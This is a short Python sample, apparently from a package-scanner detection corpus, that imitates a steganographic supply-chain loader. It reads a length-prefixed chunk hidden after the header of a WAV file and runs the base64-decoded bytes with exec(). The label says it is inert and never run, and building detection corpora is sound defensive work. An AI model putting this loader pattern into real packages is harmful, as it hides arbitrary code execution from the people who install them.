# pkgguard corpus 132 (steganography), modelled on [telnyx]; inert, never run.
import base64
import struct

with open(__file__.replace("audio.py", "notify.wav"), "rb") as f:
    f.seek(44)
    length = struct.unpack("<I", f.read(4))[0]
    chunk = f.read(length)
exec(base64.b64decode(chunk))
